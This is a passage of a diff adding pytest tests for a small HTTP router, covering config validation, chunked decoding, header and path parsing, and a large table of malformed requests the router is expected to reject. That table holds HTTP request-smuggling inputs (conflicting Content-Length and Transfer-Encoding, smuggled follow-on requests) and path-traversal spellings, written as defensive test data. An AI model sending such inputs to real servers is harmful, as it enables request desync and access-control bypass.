+    "CONNECT_TIMEOUT": (["5", "0.25"], ["soon"]),
+    "MAX_LOG_AGE_DAYS": (["7", "1"], ["week"]),
+    "BLOB_STORAGE_TYPE": (["filesystem", "memory"], ["s3"]),
+    "MAX_BLOB_SIZE": (["1000"], ["-1"]),
+    "MAX_TOTAL_STORAGE_SIZE": (["1000"], ["-1"]),
+    "MAX_REQUEST_SIZE": (["1000"], ["much", "1.5"]),
+    "MAX_CONNECTIONS": (["10"], ["many"]),
+    "JWT_SECRET": ([SECRET, f"  {SECRET} "], ["", "short", "ab" * 20, " " * 40]),
+    "WEBUI_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
+    "API_SECURITY": (["NONE", "AUTH_WHEN_PROXIED"], ["SOMETIMES", "ALWAYS_AUTH"]),
+    "TRUSTED_PROXIES": (["10.0.0.0/8, ::1", "10.0.0.1"], ["10.0.0.0/33", "proxy"]),
+    "ALLOWED_HOSTS": (["router.example", "a.example,b.example"], []),
+    "ALLOWED_ORIGINS": (["*", "https://a.example, https://b.example"], []),
+    "SHUTDOWN_GRACE": (["8", "0.5", "0"], ["soon", "-1"]),
+    "LOG_LEVEL": (["DEBUG", "INFO", "WARNING", "ERROR"], ["LOUD"]),
+    "ROUTES_CONFIG": ([], ["nowhere.yaml"]),
+}  # fmt: skip
+
+
+def test_good_settings() -> None:
+    good = {name: values for name, (values, _) in SETTINGS.items() if values}
+    for turn in range(max(map(len, good.values()))):
+        settings = {name: values[turn % len(values)] for name, values in good.items()}
+        done = run("check", settings=settings)
+        assert done.returncode == 0, done.stderr
+
+
+def test_bad_settings_stop_with_one_line(
+    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    for name, value in [(name, bad) for name, (_, values) in SETTINGS.items() for bad in values]:
+        with pytest.raises(smolrouter.ConfigError) as raised:
+            smolrouter.run_command(["check"], {name: value})
+        (line,) = str(raised.value).splitlines()
+        assert name in line or "JWT_SECRET" in line, line
+        assert value in line or name in ("JWT_SECRET", "MODEL_MAP"), line
+    done = run("check", settings={"LISTEN_PORT": "x"})
+    (line,) = done.stderr.strip().splitlines()
+    assert done.returncode == 2 and "LISTEN_PORT" in line and "'x'" in line
+
+
+def test_every_setting_may_be_missing() -> None:
+    done = run("check")
+    assert (done.returncode, done.stderr) == (0, "")
+    assert "http://localhost:8000" in done.stdout
+
+
+def test_spellings_of_an_upstream_url() -> None:
+    spellings = [
+        f"{prefix}{suffix}"
+        for prefix in ("", "/some/prefix")
+        for suffix in ("", "/", "/v1", "/v1/")
+    ]
+    with Upstream(lambda r: json_answer({"target": r.target})) as upstream:
+        servers = {f"s{n}": upstream.url + end for n, end in enumerate(spellings)}
+        routes = [{"match": {"model": s}, "route": {"upstream": s}} for s in servers]
+        with Router({}, {"servers": servers, "routes": routes}) as router:
+            for name, end in zip(servers, spellings, strict=True):
+                prefix = "/some/prefix" if "prefix" in end else ""
+                assert ask(router, name).json["target"] == f"{prefix}{CHAT}", end
+
+
+# ======================================================================================
+# 3  HTTP messages
+# ======================================================================================
+# Heads, chunks and codings on bytes; then requests that are not HTTP, over sockets.
+
+# --- chunks ---------------------------------------------------------------------------
+
+CHUNKS = [
+    (b"5\r\nhello\r\n0\r\n\r\n", b"hello"),
+    (b"5;a=b\r\nhello\r\n0;last\r\n\r\n", b"hello"),
+    (b"5 ;a\r\nhello\r\n6\r\n\r\n\r\n\r\n\r\n0\r\n\r\n", b"hello\r\n\r\n\r\n"),
+    (b"A\r\n0123456789\r\na\r\n0123456789\r\n000\r\n\r\n", b"0123456789" * 2),
+    (b"1\r\nx\r\n0\r\nTrailer: gone\r\nX: y\r\n\r\n", b"x"),
+    (b"0\r\n\r\n", b""),
+]
+
+
+@pytest.mark.parametrize("data, content", CHUNKS)
+def test_chunks_at_every_split(data: bytes, content: bytes) -> None:
+    for pieces in every_split(data):
+        decoder = smolrouter.ChunkDecoder()
+        assert b"".join(map(decoder.feed, pieces)) == content
+        assert decoder.done and decoder.rest == b""
+
+
+def decode_chunks(pieces: Iterable[bytes]) -> tuple[bytes, bool, bytes] | str:
+    """Return the content of some pieces, whether it is at its end and what is left, or a fault."""
+    decoder, content = smolrouter.ChunkDecoder(), b""
+    try:
+        for piece in pieces:
+            content += decoder.feed(piece)
+    except smolrouter.BadRequest as fault:
+        return type(fault).__name__
+    return content, decoder.done, decoder.rest
+
+
+def test_chunks_in_bulk_are_chunks_one_by_one() -> None:
+    random = __import__("random").Random(7)
+    shapes = [b"data: %b\n\n"] * 12 + [b"%b\n", b"%b", b"a\n%b\n\n", b"\r\n%b", b"%b\n\n\r\n"]
+    faults = [
+        (b"\r\n", b"\r"),
+        (b"\r\n", b"\n"),
+        (b"e\r\n", b"E\r\n"),
+        (b"\n\n\r\n", b"\n\r\n"),
+        (b"1", b"01"),
+        (b"\r\ndata", b";x=y\r\ndata"),
+    ]
+    bad = 0
+    for turn in range(80):
+        sizes = [random.choice([1, 40, 1100])] if turn % 2 else [1, 40, 1100]
+        some = [random.choice(shapes)] if turn % 2 else shapes
+        contents = [
+            random.choice(some) % bytes(random.choices(b'ab0"{', k=random.choice(sizes)))
+            for _ in range(random.randrange(1, 30))
+        ]
+        data = b"".join(itertools.chain(*map(smolrouter.encode_chunk, contents))) + b"0\r\n\r\n"
+        if turn % 4 < 2:
+            start = random.randrange(len(data))
+            data = data[:start] + data[start:].replace(*random.choice(faults), 1)
+        cut = random.randrange(len(data))
+        slowly = decode_chunks(bytes([octet]) for octet in data)
+        bad += isinstance(slowly, str)
+        assert decode_chunks([data]) == decode_chunks([data[:cut], data[cut:]]) == slowly
+        if turn % 4 > 1:
+            assert slowly == (b"".join(contents), True, b"")
+    assert bad > 8
+
+
+@pytest.mark.parametrize("size", [5, 26, 190])
+def test_every_octet_that_frames_a_chunk_is_looked_at(size: int) -> None:
+    """Also among many chunks of one size, and of one line, which are read at once."""
+    for ending in (b"\n\n", b"x\r"):
+        chunk = b"%x\r\n%s%s\r\n" % (size, b"a" * (size - 2), ending)
+        count = 2000 // len(chunk) + 2
+        data = chunk * count + b"0\r\n\r\n"
+        assert decode_chunks([data])[:2] == ((b"a" * (size - 2) + ending) * count, True)
+        start = len(chunk) * (count // 2)
+        frame = [*range(chunk.index(b"\n") + 1), len(chunk) - 2, len(chunk) - 1]
+        for at in (start + at for at in frame):
+            for octet in (b"X", b"\r", b"\n", b"0", b"f"):
+                if data[at : at + 1] != octet:
+                    wrong = data[:at] + octet + data[at + 1 :]
+                    slowly = decode_chunks(bytes([octet]) for octet in wrong)
+                    assert decode_chunks([wrong]) == slowly
+                    assert isinstance(slowly, str) or slowly[1] is False or octet in b"0f"
+
+
+BAD_CHUNKS = {
+    "no size": b"\r\nhello",
+    "sign": b"+5\r\nhello\r\n",
+    "prefix": b"0x5\r\nhello\r\n",
+    "underscore": b"1_0\r\nhello",
+    "space before": b" 5\r\nhello\r\n",
+    "space after": b"5 \r\nhello\r\n",
+    "sixteen digits": b"0000000000000005\r\nhello\r\n",
+    "bare LF after the size": b"5\nhello\r\n",
+    "bare LF in an extension": b"5;a\nb\r\nhello\r\n",
+    "NUL in an extension": b"5;\0\r\nhello\r\n",
+    "content longer than its size": b"4\r\nhello\r\n",
+    "bare LF after the content": b"5\r\nhello\n0\r\n\r\n",
+    "long extension": b"5;" + b"x" * 2000 + b"\r\nhello\r\n",
+    "many extensions": (b"1;" + b"x" * 900 + b"\r\ny\r\n") * 20,
+    "bad trailer": b"0\r\nno colon\r\n\r\n",
+    "long trailers": b"0\r\n" + b"a: b\r\n" * 2000,
+}
+
+
+@pytest.mark.parametrize("data", BAD_CHUNKS.values(), ids=BAD_CHUNKS.keys())
+def test_bad_chunks_are_refused_at_every_split(data: bytes) -> None:
+    step = max(1, len(data) // 50)
+    for cut in range(0, len(data), step):
+        decoder = smolrouter.ChunkDecoder()
+        with pytest.raises(smolrouter.RouterError):
+            [decoder.feed(data[:cut]), decoder.feed(data[cut:])]
+
+
+CHUNK_BITS = [
+    b"0",
+    b"1",
+    b"5",
+    b"a",
+    b"F",
+    b"00",
+    b"\r\n",
+    b"\r",
+    b"\n",
+    b";x",
+    b"x=1",
+    b" ",
+    b"hello",
+    b"A: b",
+    b"\0",
+    b"0\r\n\r\n",
+    b"5\r\nhello\r\n",
+]
+
+
+def take_any_chunks(data: bytes) -> tuple[bytes, bytes] | None:
+    """Read chunked content in one go by other means: content and rest, None when bad."""
+    content, trailers = b"", False
+    while True:
+        line, end, rest = data.partition(b"\r\n")
+        if not end:
+            return None
+        if trailers:
+            if not line:
+                return content, rest
+            name = line.partition(b":")[0]
+            if b":" not in line or not re.fullmatch(rb"[!#$%&'*+.^_`|~0-9A-Za-z-]+", name):
+                return None
+            if re.search(rb"[\x00-\x08\x0a-\x1f\x7f]", line):
+                return None
+            data = rest
+            continue
+        match = re.fullmatch(rb"([0-9A-Fa-f]{1,15})([ \t]*;[\t\x20-\x7e\x80-\xff]*)?", line)
+        if not match:
+            return None
+        size = int(match[1], 16)
+        trailers, data = not size, rest
+        if size:
+            if rest[size : size + 2] != b"\r\n":
+                return None
+            content, data = content + rest[:size], rest[size + 2 :]
+
+
+@fuzz(lambda st: {"bits": pieces_of(st, CHUNK_BITS, 16)})
+def test_fuzz_chunks(bits: list[bytes]) -> None:
+    """However the octets come, the content is the same, and an oracle's."""
+    outcomes = set()
+    for pieces in (bits, [b"".join(bits)], [bytes([n]) for n in b"".join(bits)]):
+        decoder, content = smolrouter.ChunkDecoder(), b""
+        try:
+            for at, piece in enumerate(pieces):
+                content += decoder.feed(piece)
+                if decoder.done:
+                    outcomes.add((content, decoder.rest + b"".join(pieces[at + 1 :])))
+                    break
+            else:
+                outcomes.add(None)
+        except smolrouter.BadRequest:
+            outcomes.add(None)
+    assert outcomes == {take_any_chunks(b"".join(bits))}
+
+
+# --- heads, paths and fields ----------------------------------------------------------
+
+HTTP_BITS = [
+    b"GET", b"POST", b" ", b"/v1/x", b"http://a", b"HTTP/1.1", b"HTTP/1.0", b"\r\n", b"\r", b"\n",
+    b":", b"Host: a", b"Content-Length: 5", b"Content-Length", b"Transfer-Encoding: chunked", b"0",
+    b"5", b"ff", b"chunked", b",", b";", b"\t", b"\0", b"\x80", b"\xff", b"a", b"Connection: close",
+    b"HTTP/1.1 200 OK", b"%41", b"..", b"//", b"?", b"#", b"*", b"[::1]", b"@",
+]  # fmt: skip
+STARTS = [
+    b"",
+    b"GET /v1/x HTTP/1.1\r\nHost: a\r\n",
+    b"GET http://b/ HTTP/1.0\r\n",
+    b"HTTP/1.1 200 OK\r\n",
+    b"HTTP/1.0 204 \r\nA:\r\n",
+]
+
+
+@fuzz(lambda st: {"start": st.sampled_from(STARTS), "bits": pieces_of(st, HTTP_BITS)})
+def test_fuzz_heads(start: bytes, bits: list[bytes]) -> None:
+    """A head is refused, or it reads the same when it is written down again."""
+    bits = [start, *bits]
+    for parse_head in (smolrouter.parse_request_head, smolrouter.parse_response_head):
+        try:
+            read = parse_head(b"".join(bits))
+        except smolrouter.BadRequest:
+            continue
+        lines = [f"{name}: {value}" for _, name, value in read.fields.lines]
+        if isinstance(read, smolrouter.RequestHead):
+            target = read.path + read.query
+            first = f"{read.method} {target} HTTP/1.{read.minor}"
+            if read.host and not read.fields.get("host"):
+                lines.append(f"Host: {read.host}")
+        else:
+            with contextlib.suppress(smolrouter.BadRequest):
+                read.framing("GET")
+            first = f"HTTP/1.{read.minor} {read.status} {read.reason}"
+        again = parse_head("\r\n".join([first, *lines]).encode("latin-1"))
+        assert again.fields.lines[: len(read.fields.lines)] == read.fields.lines
+        if isinstance(read, smolrouter.RequestHead):
+            assert (again.path, again.query, again.framing) == (read.path, read.query, read.framing)
+
+
+PATHS = [
+    ("/v1/models", "/v1/models"),
+    ("//api/logs", "/api/logs"),
+    ("/api/./logs", "/api/logs"),
+    ("/%61pi/logs", "/api/logs"),
+    ("/api/logs/", "/api/logs"),
+    ("/api/x/../logs", "/api/logs"),
+    ("/../../api/logs", "/api/logs"),
+    ("/%2e%2e/api/logs", "/api/logs"),
+    ("/v1/models/org%2fname", "/v1/models/org%2Fname"),
+    ("/v1/caf%c3%a9", "/v1/caf%C3%A9"),
+    ("/", "/"),
+    ("/.", "/"),
+]
+
+
+@pytest.mark.parametrize("path, normal", PATHS)
+def test_path_has_one_spelling(path: str, normal: str) -> None:
+    assert smolrouter.normalise_path(path) == normal
+    assert smolrouter.normalise_path(normal) == normal
+
+
+@fuzz(lambda st: {"path": st.text("/.%2eEfF41a;\\~", max_size=12)})
+def test_fuzz_paths(path: str) -> None:
+    """A normal path has no other spelling, and leads nowhere above its root."""
+    try:
+        normal = smolrouter.normalise_path(f"/{path}")
+    except smolrouter.BadRequest:
+        assert re.search("%(?![0-9A-Fa-f]{2})", path)
+        return
+    assert smolrouter.normalise_path(normal) == normal
+    assert normal.startswith("/") and not {"", ".", ".."} & {*normal[1:].split("/")} - {""}
+    assert "//" not in normal
+
+
+RETRY_AFTER = [
+    ("0", 0.0), ("7", 7.0), ("999999", 999999.0), ("1000000", None), ("-1", None), ("1.5", None),
+    ("Thu, 01 Jan 1970 00:16:50 GMT", 10.0), ("Thu, 01 Jan 1970 00:00:00 GMT", 0.0),
+    ("Thursday, 01-Jan-70 00:16:50 GMT", 10.0), ("Thu Jan  1 00:16:50 1970", 10.0),
+    ("Thu, 01 Jan 99999999999 00:00:00 GMT", None), ("soon", None), (",", None),
+    ("Thu, 99 Foo 1970 00:16:50 GMT", None),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text, seconds", RETRY_AFTER)
+def test_retry_after(text: str, seconds: float | None) -> None:
+    assert smolrouter.parse_retry_after(text, 1000.0) == seconds
+
+
+# --- requests that are not HTTP -------------------------------------------------------
+
+EVIL = b"POST /v1/EVIL HTTP/1.1\r\nHost: router\r\n"
+NEXT = b"GET /v1/EVIL-smuggled HTTP/1.1\r\nHost: router\r\n\r\n"
+HELLO = b'{"model":"EVIL"}'
+
+
+def sized(value: bytes, content: bytes = HELLO + NEXT) -> bytes:
+    """A request with this Content-Length and another one behind it."""
+    return EVIL + b"Content-Length: " + value + b"\r\n\r\n" + content
+
+
+def coded(line: bytes, more: bytes = b"") -> bytes:
+    """A request with this field line, its chunks and another request behind it."""
+    size = b"%x\r\n%s\r\n0\r\n\r\n" % (len(HELLO), HELLO)
+    return EVIL + line + b"\r\n" + more + b"\r\n" + size + NEXT
+
+
+def chunks(body: bytes) -> bytes:
+    """A request whose chunked content is exactly this."""
+    return EVIL + b"Transfer-Encoding: chunked\r\n\r\n" + body + b"\r\n\r\n"
+
+
+def fielded(lines: bytes, host: bytes = b"Host: router\r\n") -> bytes:
+    """A request with these field lines."""
+    return b"GET /v1/EVIL HTTP/1.1\r\n" + host + lines + b"\r\n"
+
+
+def started(first: bytes) -> bytes:
+    """A request with this first line."""
+    return first + b"\r\nHost: router\r\n\r\n"
+
+
+HEX = b"%x" % len(HELLO)
+ONE = HEX + b"\r\n" + HELLO + b"\r\n"
+MALFORMED: dict[str, tuple[bytes, set[int]]] = {
+    name: (data, {400})
+    for name, data in {
+        # lengths
+        "length and coding": coded(CODED, b"Content-Length: 4\r\n"),
+        "coding and length": coded(b"Content-Length: 4", CODED + b"\r\n"),
+        "length of zero and coding": coded(CODED, b"Content-Length: 0\r\n"),
+        "two lengths": sized(b"16\r\nContent-Length: 20"),
+        "one length twice": sized(b"16\r\nContent-Length: 16"),
+        "list of lengths": sized(b"16, 16"),
+        "list of different lengths": sized(b"16, 20"),
+        "signed length": sized(b"+16"),
+        "negative length": sized(b"-16"),
+        "negative zero": sized(b"-0"),
+        "hexadecimal length": sized(b"0x10"),
+        "length with underscore": sized(b"1_6"),
+        "length with a space inside": sized(b"1 6"),
+        "length behind a no-break space": sized(b"\xa016"),
+        "length before a no-break space": sized(b"16\xa0"),
+        "length behind a vertical tab": sized(b"\x0b16"),
+        "length behind a form feed": sized(b"\x0c16"),
+        "length in Arabic digits": sized("١٦".encode()),
+        "length in Latin-1 superscripts": sized(b"\xb2"),
+        "no length in the field": sized(b""),
+        "length with a fraction": sized(b"16.0"),
+        "length with an exponent": sized(b"1e1"),
+        "length with a semicolon": sized(b"16;"),
+        "quoted length": sized(b'"16"'),
+        "length of 19 digits": sized(b"1" * 19),
+        "length padded with zeros": sized(b"0" * 20 + b"16"),
+        "length of 5,000 digits": sized(b"1" * 5000),
+        # transfer codings
+        "identity coding": coded(b"Transfer-Encoding: identity"),
+        "gzip": coded(b"Transfer-Encoding: gzip"),
+        "gzip, chunked": coded(b"Transfer-Encoding: gzip, chunked"),
+        "chunked, gzip": coded(b"Transfer-Encoding: chunked, gzip"),
+        "chunked twice in one field": coded(b"Transfer-Encoding: chunked, chunked"),
+        "chunked twice in two fields": coded(CODED, CODED + b"\r\n"),
+        "chunked and identity": coded(CODED, b"Transfer-Encoding: identity\r\n"),
+        "identity and chunked": coded(b"Transfer-Encoding: identity", CODED + b"\r\n"),
+        "xchunked": coded(b"Transfer-Encoding: xchunked"),
+        "chunked with a parameter": coded(b"Transfer-Encoding: chunked;q=1"),
+        "chunked with a comma": coded(b"Transfer-Encoding: chunked,"),
+        "chunked behind a comma": coded(b"Transfer-Encoding: ,chunked"),
+        "quoted chunked": coded(b'Transfer-Encoding: "chunked"'),
+        "chunked behind NUL": coded(b"Transfer-Encoding: \0chunked"),
+        "chunked before a vertical tab": coded(b"Transfer-Encoding: chunked\x0b"),
+        "chunked before a no-break space": coded(b"Transfer-Encoding: chunked\xa0"),
+        "empty coding": coded(b"Transfer-Encoding:"),
+        "coding with a Kelvin sign": coded("Transfer-Encoding: chun\u212aed".encode()),
+        "coding in HTTP/1.0": coded(CODED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
+        "coding with a space before the colon": coded(b"Transfer-Encoding : chunked"),
+        "coding with a tab before the colon": coded(b"Transfer-Encoding\t: chunked"),
+        "coding behind a space": coded(b" Transfer-Encoding: chunked"),
+        "coding behind a vertical tab": coded(b"\x0bTransfer-Encoding: chunked"),
+        "folded coding": coded(b"Transfer-Encoding:\r\n chunked"),
+        "coding behind a bare LF": coded(b"Transfer-Encoding:\n chunked"),
+        "coding hidden by a bare CR": coded(b"X: a\rTransfer-Encoding: chunked"),
+        "coding hidden by a bare LF": coded(b"X: a\nTransfer-Encoding: chunked"),
+        # chunks
+        "no chunk-size": chunks(b"\r\n"),
+        "chunk-size of letters": chunks(b"zz\r\n"),
+        "signed chunk-size": chunks(b"+" + ONE + b"0"),
+        "negative chunk-size": chunks(b"-" + ONE + b"0"),
+        "chunk-size with 0x": chunks(b"0x" + ONE + b"0"),
+        "chunk-size with underscore": chunks(b"1_0\r\n" + HELLO + b"\r\n0"),
+        "chunk-size behind a space": chunks(b" " + ONE + b"0"),
+        "chunk-size before a vertical tab": chunks(HEX + b"\x0b" + ONE[2:] + b"0"),
+        "chunk-size before a no-break space": chunks(HEX + b"\xa0" + ONE[2:] + b"0"),
+        "chunk-size in Arabic digits": chunks("١٠\r\n".encode() + HELLO + b"\r\n0"),
+        "chunk-size of 16 digits": chunks(b"0" * 14 + ONE + b"0"),
+        "chunk-size beyond 64 bits": chunks(b"1" + b"0" * 16 + b"\r\n"),
+        "chunk line with a bare LF": chunks(HEX + b"\n" + HELLO + b"\r\n0"),
+        "chunk line with a bare CR": chunks(HEX + b"\r" + HELLO + b"\r\n0"),
+        "bare LF in an extension": chunks(HEX + b";a\nb\r\n" + HELLO + b"\r\n0"),
+        "bare CR in an extension": chunks(HEX + b";a\rb\r\n" + HELLO + b"\r\n0"),
+        "NUL in an extension": chunks(HEX + b";a\0b\r\n" + HELLO + b"\r\n0"),
+        "chunk data without an end": chunks(HEX + b"\r\n" + HELLO + b"0"),
+        "chunk data that ends with LF": chunks(HEX + b"\r\n" + HELLO + b"\n0"),
+        "chunk data that ends with CR": chunks(HEX + b"\r\n" + HELLO + b"\r0"),
+        "chunk data with other bytes at its end": chunks(
+            HEX + b"\r\n" + HELLO + b"XX0"),
+        "chunk data longer than its size": chunks(b"1\r\n" + HELLO + b"\r\n0"),
+        "signed last chunk": chunks(ONE + b"-0"),
+        "last chunk with 0x": chunks(ONE + b"0x0"),
+        "last chunk of 17 zeros": chunks(ONE + b"0" * 17),
+        "folded trailer": chunks(ONE + b"0\r\nA: b\r\n c"),
+        "trailer without a colon": chunks(ONE + b"0\r\nnonsense"),
+        "trailer with a space before the colon": chunks(ONE + b"0\r\nA : b"),
+        "trailer with a bare LF": chunks(ONE + b"0\r\nA: b\nC: d"),
+        # fields
+        "bare LF ends every line": (
+            fielded(b"A: b\r\n").replace(b"\r\n", b"\n") + b"\r\n\r\n"),
+        "bare LF ends one line": fielded(b"A: b\nC: d\r\n"),
+        "bare CR ends one line": fielded(b"A: b\rC: d\r\n"),
+        "bare CR at the end of a value": fielded(b"A: b\r\r\n"),
+        "bare LF before the content": fielded(b"A: b\n\n"),
+        "folded field": fielded(b"A: b\r\n c\r\n"),
+        "folded field with a tab": fielded(b"A: b\r\n\tc\r\n"),
+        "folded first field": fielded(b"A: b\r\n", b" Host: router\r\n"),
+        "space before the colon": fielded(b"A : b\r\n"),
+        "no colon": fielded(b"nonsense\r\n"),
+        "no name": fielded(b": b\r\n"),
+        "space in a name": fielded(b"A B: c\r\n"),
+        "bracket in a name": fielded(b"A(b): c\r\n"),
+        "letter beyond ASCII in a name": fielded(b"\xc4: c\r\n"),
+        "NUL in a name": fielded(b"A\0: b\r\n"),
+        "NUL in a value": fielded(b"A: b\0c\r\n"),
+        "escape in a value": fielded(b"A: \x1b[2J\r\n"),
+        "bell in a value": fielded(b"A: \x07\r\n"),
+        "delete in a value": fielded(b"A: \x7f\r\n"),
+        "two Hosts": fielded(b"Host: other\r\n"),
+        "the same Host twice": fielded(b"Host: router\r\n"),
+        "no Host": fielded(b"A: b\r\n", b""),
+        "Host with a space": fielded(b"", b"Host: a b\r\n"),
+        "Host with a comma": fielded(b"", b"Host: a, b\r\n"),
+        "Host with a path": fielded(b"", b"Host: router/x\r\n"),
+        "Host with a user": fielded(b"", b"Host: user@router\r\n"),
+        "Host with a signed port": fielded(b"", b"Host: router:+80\r\n"),
+        "Host with a port of letters": fielded(b"", b"Host: router:http\r\n"),
+        "Host with a port of six digits": fielded(b"", b"Host: router:123456\r\n"),
+        "Host with two ports": fielded(b"", b"Host: router:80:80\r\n"),
+        "Host with an open bracket": fielded(b"", b"Host: [::1\r\n"),
+        "Host with a bracket behind a name": fielded(b"", b"Host: router[::1]\r\n"),
+        "Host with a zone": fielded(b"", b"Host: [fe80::1%eth0]\r\n"),
+        "Host with a backslash": fielded(b"", b"Host: router\\evil\r\n"),
+        "Host with a query": fielded(b"", b"Host: router?x\r\n"),
+        "Host beyond ASCII": fielded(b"", b"Host: r\xc3\xb6uter\r\n"),
+        "Host with NUL": fielded(b"", b"Host: router\0.evil\r\n"),
+        "Host behind a space before the colon": fielded(b"", b"Host : router\r\n"),
+        "folded Host": fielded(b"", b"Host:\r\n router\r\n"),
+        # request lines
+        "no method": started(b"/v1/EVIL HTTP/1.1"),
+        "bracket in the method": started(b"G(T /v1/EVIL HTTP/1.1"),
+        "NUL in the method": started(b"G\0T /v1/EVIL HTTP/1.1"),
+        "letter beyond ASCII in the method": started(b"G\xc9T /v1/EVIL HTTP/1.1"),
+        "two spaces": started(b"GET  /v1/EVIL HTTP/1.1"),
+        "tab for a space": started(b"GET\t/v1/EVIL HTTP/1.1"),
+        "space before the method": started(b" GET /v1/EVIL HTTP/1.1"),
+        "space after the version": started(b"GET /v1/EVIL HTTP/1.1 "),
+        "space in the target": started(b"GET /v1/EVIL x HTTP/1.1"),
+        "NUL in the target": started(b"GET /v1/EVIL\0 HTTP/1.1"),
+        "delete in the target": started(b"GET /v1/EVIL\x7f HTTP/1.1"),
+        "bare CR in the target": started(b"GET /v1/EVIL\r HTTP/1.1"),
+        "bare CR before the version": started(b"GET /v1/EVIL\rHTTP/1.1"),
+        "relative target": started(b"GET v1/EVIL HTTP/1.1"),
+        "user in the authority": started(b"GET http://user@router/v1/EVIL HTTP/1.1"),
+        "no authority": started(b"GET http:///v1/EVIL HTTP/1.1"),
+        "another scheme": started(b"GET ftp://router/v1/EVIL HTTP/1.1"),
+        "a file's scheme": started(b"GET file:///v1/EVIL HTTP/1.1"),
+        "incomplete percent-encoding": started(b"GET /v1/EVIL%2 HTTP/1.1"),
+        "percent-encoding completed by another": started(b"GET /v1/EVIL/%2%65%2%65/x HTTP/1.1"),
+        "percent-encoding of letters": started(b"GET /v1/EVIL%zz HTTP/1.1"),
+        "percent-encoding of UTF-16": started(b"GET /v1/EVIL%u002e HTTP/1.1"),
+        "script's scheme": started(b"GET javascript://router/v1/EVIL HTTP/1.1"),
+        "authority alone": started(b"GET router:80 HTTP/1.1"),
+        "CONNECT": started(b"CONNECT router:443 HTTP/1.1"),
+        "asterisk without OPTIONS": started(b"GET * HTTP/1.1"),
+        "fragment in the target": started(b"GET /v1/EVIL#x HTTP/1.1"),
+        "query alone": started(b"GET ?/v1/EVIL HTTP/1.1"),
+        "letters beyond ASCII in the target": started(b"GET /v1/\xc3\xa9EVIL HTTP/1.1"),
+        "tab in the target": started(b"GET /v1/EVIL\tx HTTP/1.1"),
+        "two requests on one line": started(b"GET /v1/EVIL HTTP/1.1 GET /v1/EVIL HTTP/1.1"),
+        "no CR behind the version": b"GET /v1/EVIL HTTP/1.1\nHost: router\r\n\r\n",
+        "an answer for a request": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX: EVIL\r\n\r\n",
+        "Redis": b"*1\r\n$4\r\nEVIL\r\n\r\n",
+        "SSH": b"SSH-2.0-EVIL\r\n\r\n",
+        "PROXY protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + started(
+            b"GET /v1/EVIL HTTP/1.1"),
+        "binary PROXY protocol": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0cEVIL",
+        "no target": started(b"GET HTTP/1.1"),
+        "TLS": b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03EVIL\r\n\r\n",
+        "noise": b"\xff\xfe\xfd EVIL\r\n\r\n",
+    }.items()
+} | {
+    # versions
+    "HTTP/0.9": (b"GET /v1/EVIL\r\n\r\n", {400, 505}),
+    "named HTTP/0.9": (started(b"GET /v1/EVIL HTTP/0.9"), {400, 505}),
+    "HTTP/2 preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 505}),
+    "HTTP/2.0": (started(b"GET /v1/EVIL HTTP/2.0"), {505}),
+    "HTTP/3.0": (started(b"GET /v1/EVIL HTTP/3.0"), {505}),
+    "version in lower case": (started(b"GET /v1/EVIL http/1.1"), {400, 505}),
+    "version without a minor": (started(b"GET /v1/EVIL HTTP/1"), {400, 505}),
+    "version with a third part": (started(b"GET /v1/EVIL HTTP/1.1.1"), {400, 505}),
+    "version with more digits": (started(b"GET /v1/EVIL HTTP/1.10"), {400, 505}),
+    "version in Arabic digits": (started("GET /v1/EVIL HTTP/١.١".encode()), {400, 505}),
+    "another protocol": (started(b"GET /v1/EVIL ICY/1.1"), {400, 505}),
+    # sizes
+    "endless target": (started(b"GET /v1/EVIL" + b"a" * 20_000 + b" HTTP/1.1"), {414}),
+    "very endless target": (started(b"GET /v1/EVIL" + b"a" * 200_000), {414}),
+    "endless method": (started(b"G" * 20_000 + b" /v1/EVIL HTTP/1.1"), {400, 414, 501}),
+    "one large field": (fielded(b"A: " + b"b" * 17_000 + b"\r\n"), {431}),
+    "one very large field": (fielded(b"A: " + b"b" * 200_000 + b"\r\n"), {431}),
+    "one large name": (fielded(b"A" * 17_000 + b": b\r\n"), {400, 431}),
+    "large fields together": (fielded((b"A: " + b"b" * 8000 + b"\r\n") * 9), {431}),
+    "many small fields": (fielded(b"A: b\r\n" * 129), {431}),
+    "very many small fields": (fielded(b"A:\r\n" * 30_000), {431}),
+    "long chunk extension": (chunks(HEX + b";" + b"a" * 2000 + b"\r\n"), {400, 431}),
+    "endless chunk extension": (chunks(HEX + b";" + b"a" * 200_000), {400, 431}),
+    "many chunk extensions": (
+        chunks((b"1;" + b"a" * 900 + b"\r\n \r\n") * 40 + b"0"), {400, 431}),
+    "long trailers": (
+        chunks(ONE + b"0\r\n" + (b"A: " + b"b" * 900 + b"\r\n") * 12), {400, 431}),
+    "content too large": (sized(b"9" * 18), {413}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", MALFORMED)
+def test_malformed_request(name: str) -> None:
+    data, statuses = MALFORMED[name]
+    mark = f"~{list(MALFORMED).index(name):03}"  # as long as EVIL
+    got = raw(shared().port, data.replace(b"EVIL", mark.encode()), answers=0)
+    answers, rest = split_answers(got)
+    assert [a.status for a in answers if a.status not in statuses] == []
+    assert (len(answers), rest) == (1, b"")  # and the connection was closed
+    assert answers[0].get("Connection") == "close"
+    assert not stage().heard(mark)
+    assert request(shared().port, "GET", "/v1/fine").status == 200
+
+
+@pytest.mark.parametrize(
+    "data",
+    {
+        "in the request line": b"POST /v1/EV",
+        "in the fields": EVIL + b"Content-Le",
+        "before the content": EVIL + b"Content-Length: 16\r\n\r\n",
+        "in the content": EVIL + b"Content-Length: 16\r\n\r\n" + HELLO[:-1],
+        "in a chunk-size": EVIL + CODED + b"\r\n\r\n1",
+        "in a chunk": EVIL + CODED + b"\r\n\r\n" + ONE[:9],
+        "before the last chunk": EVIL + CODED + b"\r\n\r\n" + ONE,
+        "in the trailers": EVIL + CODED + b"\r\n\r\n" + ONE + b"0\r\n",
+    }.items(),
+    ids=lambda item: item[0],
+)
+def test_truncated_request(data: tuple[str, bytes]) -> None:
